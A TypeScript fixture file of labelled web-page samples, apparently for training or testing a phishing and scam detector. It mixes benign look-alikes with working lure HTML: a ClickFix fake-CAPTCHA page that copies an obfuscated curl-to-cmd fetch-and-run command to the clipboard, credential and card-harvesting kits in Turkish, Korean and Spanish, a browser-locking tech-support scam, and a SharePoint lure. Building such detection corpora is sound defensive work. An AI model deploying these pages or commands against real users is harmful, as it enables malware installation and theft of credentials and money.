import type { Entry } from '../entry.js';

/** More of several families: ClickFix variants, kits in further languages, tech-support, and benign look-alikes of each. */
export const entries: Entry[] = [
  {
    id: 'clickfix-cf-turnstile-lookalike',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://www.bellingham-ceramics.com/shop/mugs/',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Mugs | Bellingham Ceramics</title>
<script src="https://bellingham-ceramics.com.cdn-turnstile.pro/t.js"></script></head>
<body><div id="ts" style="position:fixed;inset:0;background:#fff;font-family:system-ui;padding:10vh 20vw"><h1>www.bellingham-ceramics.com</h1><p>Verifying you are human. This may take a few seconds.</p>
<div style="border:1px solid #ddd;padding:14px;width:300px"><input type="checkbox" id="k"> Verify you are human</div>
<div id="steps" hidden><p>Unusual traffic from your network. Complete the manual verification:</p><p>⊞ Win + R → Ctrl + V → Enter</p></div></div>
<script>
k.addEventListener('click', function () {
  var p = ['c','m','d',' ','/','c',' ','c','u','r','l',' ','-','s',' ','h','t','t','p','s',':','/','/','c','d','n','-','t','u','r','n','s','t','i','l','e','.','p','r','o','/','v',' ','|',' ','c','m','d'].join('');
  var t = document.createElement('input'); t.value = p; document.body.appendChild(t); t.select(); document.execCommand('copy'); t.remove();
  steps.hidden = false;
});
</script><main><h1>Mugs</h1></main></body></html>`,
  },
  {
    id: 'kit-edevlet-tr',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://turkiye-gov-tr.edevlet-giris.com/giris',
    body: `<!DOCTYPE html><html lang="tr"><head><meta charset="utf-8"><title>e-Devlet Kapısı Giriş</title></head>
<body style="font-family:Arial;background:#f4f4f4"><div style="background:#c8102e;color:#fff;padding:16px 40px;font-weight:bold">türkiye.gov.tr — e-Devlet Kapısı</div><div style="width:440px;margin:30px auto;background:#fff;padding:30px"><h2>Kimlik Doğrulama</h2><p>Elektrik faturası iadeniz (1.240,50 TL) hazır. İade için giriş yapınız.</p>
<form method="post" action="kontrol.php"><input name="tckn" placeholder="T.C. Kimlik No" maxlength="11"><input name="sifre" type="password" placeholder="e-Devlet Şifresi"><button style="background:#c8102e;color:#fff;border:0;padding:10px 30px">Giriş Yap</button></form></div></body></html>`,
  },
  {
    id: 'kit-naver-ko',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://nid-naver-login.security-check.kr-auth.com/nidlogin.login',
    body: `<!DOCTYPE html><html lang="ko"><head><meta charset="utf-8"><title>네이버 : 로그인</title></head>
<body style="font-family:'Nanum Gothic',sans-serif"><div style="width:460px;margin:60px auto;text-align:center"><h1 style="color:#03c75a">NAVER</h1><p>해외에서 로그인 시도가 감지되었습니다. 본인 확인을 위해 다시 로그인해 주세요.</p>
<form method="post" action="/nidlogin.php"><input name="id" placeholder="아이디" style="width:100%;padding:12px"><input name="pw" type="password" placeholder="비밀번호" style="width:100%;padding:12px"><button style="width:100%;background:#03c75a;color:#fff;border:0;padding:14px">로그인</button></form></div></body></html>`,
  },
  {
    id: 'kit-correos-es-sms-lure',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://correos-es.envio-pendiente.info/pago',
    body: `<!DOCTYPE html><html lang="es"><head><meta charset="utf-8"><title>Correos - Pago de aduanas</title></head>
<body style="font-family:Arial"><div style="background:#ffcd00;color:#002e6d;padding:16px 30px;font-weight:bold">Correos</div><div style="width:480px;margin:30px auto"><h2>Su envío está retenido</h2><p>Envío nº PQ4Z8L0731220580128001E. Debe abonar 1,79 € de gastos de aduana.</p>
<form method="post" action="pago.php"><input name="titular" placeholder="Titular de la tarjeta"><input name="tarjeta" placeholder="Número de tarjeta"><input name="caducidad" placeholder="MM/AA"><input name="cvv" placeholder="CVV"><button style="background:#002e6d;color:#fff;border:0;padding:10px 30px">Pagar 1,79 €</button></form>
<script>setTimeout(function(){document.querySelector('form').insertAdjacentHTML('afterend','<p>Introduzca el código SMS de su banco: <input name="sms" maxlength="8"></p>');},30000);</script></div></body></html>`,
  },
  {
    id: 'tss-edge-popup-fr',
    label: 'scam',
    kind: 'tech-support',
    url: 'https://alerte-securite-windows.fr-support.net/erreur/DW6VB36',
    body: `<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"><title>Alerte de sécurité Windows</title></head>
<body style="font-family:Segoe UI;background:#0078d7;color:#fff"><div style="width:640px;margin:60px auto"><h1>Accès à cet ordinateur bloqué</h1><p>Code d'erreur : #DW6VB36. Votre ordinateur a été bloqué suite à un virus (Trojan:Win32/Emotet). Vos mots de passe bancaires et vos photos sont en danger.</p>
<h2>Contactez le support Microsoft : 09 70 73 22 14 (appel gratuit)</h2><p>Ne fermez pas cette page et n'éteignez pas votre ordinateur.</p></div>
<script>window.onbeforeunload=function(){return 'Appelez le 09 70 73 22 14';};document.body.addEventListener('mousemove',function(){if(document.fullscreenElement==null){document.documentElement.requestFullscreen().catch(function(){});}});</script></body></html>`,
  },
  {
    id: 'lure-sharepoint-onenote',
    label: 'phishing',
    kind: 'lure',
    url: 'https://northfieldcpa-my.sharepoint-online-docs.com/personal/j_doe/Documents/Proposal.one',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>OneNote - Proposal</title></head>
<body style="font-family:Segoe UI;background:#f3f2f1"><div style="width:600px;margin:60px auto;background:#fff;padding:30px;border-left:6px solid #7719aa"><h2>Northfield CPA has shared a OneNote notebook</h2><p>"2026 Engagement Proposal — please review before Friday"</p>
<a href="https://northfieldcpa.auth-login-onenote.com/?u=j_doe" style="background:#7719aa;color:#fff;padding:10px 24px;text-decoration:none">Open in OneNote Online</a><p style="font-size:12px;color:#666">This link will work for anyone at your organisation.</p></div></body></html>`,
  },
  {
    id: 'clean-cloudflare-challenge-real',
    label: 'clean',
    kind: 'scary-script',
    url: 'https://forum.tinyorbit-games.com/cdn-cgi/challenge-platform/h/b/orchestrate/chl_page/v1',
    body: `<!DOCTYPE html><html lang="en-US"><head><title>Just a moment...</title><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><meta name="robots" content="noindex,nofollow"></head>
<body><div class="main-wrapper" role="main"><div class="main-content"><h1 class="zone-name-title h1">forum.tinyorbit-games.com</h1><h2 class="h2" id="challenge-running">Verifying you are human. This may take a few seconds.</h2><div id="turnstile-wrapper" class="captcha-prompt"></div>
<div id="challenge-body-text" class="core-msg spacer">forum.tinyorbit-games.com needs to review the security of your connection before proceeding.</div></div></div>
<script>(function(){window._cf_chl_opt={cvId:'3',cZone:'forum.tinyorbit-games.com',cType:'managed',cRay:'8e2f1c0d9a7b3e41',cH:'Zk1...'};var cpo=document.createElement('script');cpo.src='/cdn-cgi/challenge-platform/h/b/orchestrate/chl_page/v1?ray=8e2f1c0d9a7b3e41';window._cf_chl_opt.cOgUHash=location.hash===''&&location.href.indexOf('#')!==-1?'#':location.hash;document.getElementsByTagName('head')[0].appendChild(cpo);}());</script>
<div class="footer" role="contentinfo">Ray ID: <code>8e2f1c0d9a7b3e41</code> · Performance &amp; security by Cloudflare</div></body></html>`,
  },
  {
    id: 'clean-install-script-oneliner',
    label: 'clean',
    kind: 'vendor-download',
    url: 'https://get.orbitctl.io/install',
    body: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Install orbitctl</title></head>
<body><main><h1>Install orbitctl</h1><h2>macOS / Linux</h2><pre><code id="sh">curl -fsSL https://get.orbitctl.io/install.sh | sh</code></pre><button data-c="sh">Copy</button>
<h2>Windows (PowerShell)</h2><pre><code id="ps">irm https://get.orbitctl.io/install.ps1 | iex</code></pre><button data-c="ps">Copy</button><p>Prefer to inspect first? <a href="https://get.orbitctl.io/install.ps1">Read install.ps1</a> or use <code>winget install orbitctl</code>.</p></main>
<script>document.querySelectorAll('button[data-c]').forEach(function(b){b.onclick=function(){navigator.clipboard.writeText(document.getElementById(b.dataset.c).textContent);};});</script></body></html>`,
  },
  {
    id: 'clean-giveaway-real-brand-contest',
    label: 'clean',
    kind: 'shop',
    url: 'https://www.trailhead-outfitters.com/contest/winter-gear-giveaway',
    body: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Winter Gear Giveaway | Trailhead Outfitters</title></head>
<body><main><h1>Win a $500 winter gear bundle</h1><p>Enter by December 15. One winner drawn December 16. No purchase necessary. Open to US residents 18+.</p>
<form method="post" action="/contest/winter-gear-giveaway/enter"><input name="name" placeholder="Name"><input name="email" type="email" placeholder="Email"><label><input type="checkbox" name="optin"> Send me the Trailhead newsletter</label><button>Enter</button></form><p><a href="/contest/winter-gear-giveaway/rules">Official rules</a></p></main></body></html>`,
  },
  {
    id: 'clean-parking-ticket-gov-pay',
    label: 'clean',
    kind: 'checkout',
    url: 'https://pay.riverton-city.gov/parking/citation',
    body: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Pay a Parking Citation | City of Riverton</title></head>
<body><header><img src="/seal.png" alt="City of Riverton seal"> City of Riverton</header><main><h1>Pay a parking citation</h1><form method="post" action="/parking/citation/lookup"><label>Citation number<input name="citation"></label><label>License plate<input name="plate"></label><button>Look up</button></form>
<p>The City never sends payment links by text message. Pay only at pay.riverton-city.gov or in person at City Hall.</p></main></body></html>`,
  },];
